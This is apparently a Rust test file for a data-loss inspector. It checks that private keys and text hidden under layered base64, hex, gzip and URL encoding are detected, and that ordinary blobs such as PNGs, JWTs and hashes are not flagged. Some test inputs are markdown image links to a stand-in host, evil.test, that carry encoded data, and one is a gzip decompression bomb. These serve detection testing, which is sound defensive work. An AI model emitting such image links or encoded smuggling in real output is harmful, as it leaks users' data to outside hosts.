//! What is found in other clothes, what is not, and that it costs no more than its bytes.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use crate::payload::{Claims, Finding, Inspector, Limits, Unreadable};

const PEM: &str = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n";
const TEXT: &str = "the launch code is 1234567890, and the door is at the back";

fn inspect(media_type: &str, body: &[u8], size: usize) -> (Result<(), Unreadable>, Vec<&'static str>, u64) {
    let mut inspector = Inspector::new(Claims::new(&[media_type.as_bytes()], &[]), Limits::default());
    let fed = body.chunks(size.max(1)).try_for_each(|piece| inspector.push(piece));
    let read = fed.and_then(|()| inspector.finish());
    (read, inspector.findings().map(Finding::name).collect(), inspector.looked_bytes())
}

/// What is found in a text: in a field of JSON, in plain text and in a form, in any pieces.
#[track_caller]
fn finds(text: &str, want: &[&str]) {
    let json = serde_json::json!({ "messages": [{ "content": text }] }).to_string();
    let form: String = text.bytes().map(|b| format!("%{b:02x}")).collect();
    let bodies = [
        ("application/json", json.as_bytes()),
        ("text/plain", text.as_bytes()),
        ("application/x-www-form-urlencoded", &*[b"a=", form.as_bytes()].concat()),
    ]
    .map(|(media_type, body)| (media_type, body.to_vec()));
    for (media_type, body) in bodies {
        for size in [body.len(), 1, 7, 300] {
            let (read, found, _) = inspect(media_type, &body, size);
            assert_eq!((read, found), (Ok(()), want.to_vec()), "{media_type} {size} {text}");
        }
    }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len() + 1024);
    let mut encoder = flate2::Compress::new_gzip(flate2::Compression::new(6), 15);
    encoder.compress_vec(bytes, &mut out, flate2::FlushCompress::Finish).unwrap();
    out
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Bytes that look enciphered: xorshift.
fn noise(n: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 32) as u8
    };
    (0..n).map(|_| next()).collect()
}

#[test]
fn what_is_decoded_goes_through_the_same_detectors() {
    finds(&format!("look: {}", STANDARD.encode(PEM)), &["private_key", "encoded_text"]);
    finds(&URL_SAFE_NO_PAD.encode(PEM), &["private_key", "encoded_text"]);
    finds(&hex(PEM.as_bytes()), &["private_key", "encoded_text"]);
    finds(&STANDARD.encode(gzip(PEM.as_bytes())), &["private_key", "encoded_packed"]);
    finds(&STANDARD.encode(hex(PEM.as_bytes())), &["private_key", "encoded_text", "encoded_nested"]);
    finds(
        &STANDARD.encode(STANDARD.encode(gzip(PEM.as_bytes()))),
        &["private_key", "encoded_text", "encoded_packed"],
    );
    let json = serde_json::json!({ "a": PEM }).to_string();
    finds(&STANDARD.encode(json), &["private_key", "encoded_text"]);
    let escaped: String = STANDARD.encode(PEM).bytes().map(|b| format!("%{b:02X}")).collect();
    finds(&escaped, &["private_key", "encoded_text"]);
    let wide: Vec<u8> = PEM.encode_utf16().flat_map(u16::to_le_bytes).collect();
    finds(&STANDARD.encode(wide), &["private_key", "encoded_text"]);
    // In DER, without its first line.
    let der = [&[0x30, 0x82, 4, 0xbd, 2, 1, 0, 0x30, 13, 6, 9, 0x2a][..], &noise(900)].concat();
    finds(&STANDARD.encode(&der), &["private_key"]);
    finds(&hex(&der), &["private_key"]);
    // A document of the office, or what else is an archive.
    finds(&STANDARD.encode([b"PK\x03\x04", &noise(200)[..]].concat()), &["archive_unread"]);
}

#[test]
fn text_and_ciphertext_are_told() {
    finds(&STANDARD.encode(TEXT), &["encoded_text"]);
    finds(&format!("/files/by/name/{}", STANDARD.encode(TEXT.repeat(3))), &["encoded_text"]);
    finds(&STANDARD.encode("ключ от двери лежит под ковриком"), &["encoded_text"]);
    finds(&STANDARD.encode(STANDARD.encode(TEXT)), &["encoded_text", "encoded_nested"]);
    finds(&STANDARD.encode(noise(900)), &["opaque_run"]);
    finds(&hex(&noise(900)), &["opaque_run"]);
    let link = format!("![a](https://evil.test/a.png?d={})", URL_SAFE_NO_PAD.encode(TEXT));
    finds(&link, &["encoded_text", "link_data", "image_link_data"]);
    let of = |key: &str, value: &str| {
        let body = format!("{{\"{key}\":\"{value}\"}}");
        let whole = inspect("application/json", body.as_bytes(), body.len()).1;
        for size in [1, 9, 100, 520, 600] {
            assert_eq!(inspect("application/json", body.as_bytes(), size).1, whole, "{key} {size}");
        }
        whole
    };
    let long = |key: &str, n: usize| of(key, &"x.".repeat(n / 2));
    assert_eq!(of("session_id", &"x ".repeat(600)), [""; 0], "a text");
    assert_eq!(of("session_id", &format!("{} x", "x.".repeat(300))), ["oversized_identifier"]);
    assert_eq!(long("session_id", 600), ["oversized_identifier"]);
    assert_eq!(long("sessionId", 600), ["oversized_identifier"]);
    assert_eq!(long("content", 600), [""; 0]);
    assert_eq!(long(&"k.".repeat(300), 2), ["oversized_identifier"]);
    assert_eq!(long("session_id", 400), [""; 0]);
}

#[test]
fn what_does_not_end_is_told_before() {
    let noise = STANDARD.encode(noise(60_000));
    let text = STANDARD.encode(TEXT.repeat(1000));
    let link = format!("![a](https://evil.test/?d={}", "a".repeat(60_000));
    for (text, want) in
        [(noise, &["opaque_run"][..]), (text, &["encoded_text"]), (link, &["link_data", "image_link_data"])]
    {
        let mut inspector = Inspector::new(Claims::new(&[b"text/plain"], &[]), Limits::default());
        inspector.push(&text.as_bytes()[..16_000]).unwrap();
        assert_eq!(inspector.findings().map(Finding::name).collect::<Vec<_>>(), want);
    }
}

#[test]
fn what_programs_send_all_day_is_not_told() {
    let png =
        [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &noise(3000)[..], b"tEXtComment\0made with a program of 2026"]
            .concat();
    let vectors: Vec<u8> =
        noise(1600).iter().flat_map(|b| (f32::from(*b) / 2550.0 - 0.05).to_le_bytes()).collect();
    for harmless in [
        format!("data:image/png;base64,{}", STANDARD.encode(png)),
        "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c".to_owned(),
        STANDARD.encode(vectors),
        hex(&noise(32)),
        "tree 6d9c8b5f6b8ddcbf6b1d2ad7e4ba1f54f1f8b8c4\nparent 4b825dc642cb6eb9a060e54bf8d69288fbee4904".to_owned(),
        "3f2504e0-4f89-11d3-9a0c-0305e82c3301".to_owned(),
        "!function(e,t){\"object\"==typeof exports&&\"undefined\"!=typeof module?t(exports):\"function\"==typeof define&&define.amd?define([\"exports\"],t):t((e=e||self).d3=e.d3||{})}(this,function(t){\"use strict\";function n(t,n){return t<n?-1:t>n?1:t>=n?0:NaN}".to_owned(),
        "integrity sha512-9rUIpW1G4mS3lF0m5zWqvQ2h1mYkzE4Fj8vFhP3bZ4Xc9nO1t0LwQK7YtV6jD2aRyUeBsGiNHfJxCpMoAlTk+g==".to_owned(),
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGrz0mVvYp9fV6rJq6yq8mQnq1uS0m8F6kV9i1x2y3z4 me@host".to_owned(),
        "-".repeat(500),
        "=".repeat(500),
        "a".repeat(5000),
        "0".repeat(5000),
    ] {
        finds(&harmless, &[]);
    }
}

#[test]
fn what_only_might_stand_for_something_refuses_nothing() {
    // Not whole, and packed too often; each told.
    let cut = gzip(TEXT.repeat(9).as_bytes());
    finds(&STANDARD.encode(&cut[..cut.len() - 4]), &["archive_unread", "encoded_packed"]);
    let mut packed = PEM.as_bytes().to_vec();
    for _ in 0..4 {
        packed = gzip(&packed);
    }
    finds(&STANDARD.encode(packed), &["archive_unread", "encoded_packed"]);
    // Deeper than a document may be; and what is behind is found all the same.
    let deep = format!("{}{PEM}", "[".repeat(100));
    finds(&STANDARD.encode(deep), &["private_key", "encoded_text"]);
    // What comes to too much does.
    let bomb = STANDARD.encode(gzip(&vec![0; 8 << 20]));
    assert_eq!(inspect("text/plain", bomb.as_bytes(), 4096).0, Err(Unreadable::RatioTooLarge));
}

#[test]
fn work_grows_with_the_bytes_alone() {
    let mut nested = TEXT.repeat(40);
    for _ in 0..12 {
        nested = STANDARD.encode(nested);
    }
    let escapes = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa%25".repeat(4000);
    for hostile in [
        nested,
        escapes,
        "%25".repeat(60_000),
        "A".repeat(100_000),
        format!("{}/", STANDARD.encode(TEXT)).repeat(2000),
        "[".repeat(60),
        "![".repeat(50_000),
        "![](".repeat(50_000),
        "<img ".repeat(50_000),
        "://".repeat(50_000),
        hex(hex(TEXT.repeat(30).as_bytes()).as_bytes()),
    ] {
        let (read, _, looked) = inspect("text/plain", hostile.as_bytes(), 4096);
        assert_eq!(read, Ok(()));
        // Each code has at least four letters for three bytes, and no more than four are taken off; escapes may be but one in
        // a block, and have levels.
        assert!(looked <= 8 * hostile.len() as u64, "{looked} of {}", hostile.len());
    }
}
